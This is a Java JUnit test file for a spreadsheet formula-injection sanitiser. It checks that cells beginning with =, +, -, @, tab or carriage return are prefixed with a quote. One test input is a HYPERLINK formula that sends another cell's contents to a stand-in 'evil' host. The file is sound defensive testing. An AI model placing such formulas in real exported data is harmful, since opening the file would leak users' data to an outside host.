package io.modelledger.audit.web;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

class SpreadsheetCellsTest {

    @ParameterizedTest
    @ValueSource(strings = {"=HYPERLINK(\"http://evil/?\"&A2,\"open\")", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"})
    void aCellASpreadsheetWouldRunIsShownAsText(String dangerous) {
        assertThat(SpreadsheetCells.neutralise(dangerous)).isEqualTo("'" + dangerous);
    }

    @Test
    void ordinaryCellsAndNumbersAreUnchanged() {
        assertThat(SpreadsheetCells.neutralise("user:carol")).isEqualTo("user:carol");
        assertThat(SpreadsheetCells.neutralise("")).isEqualTo("");
        assertThat(SpreadsheetCells.neutralise(42L)).isEqualTo(42L);
        assertThat(SpreadsheetCells.neutralise(null)).isNull();
    }
}
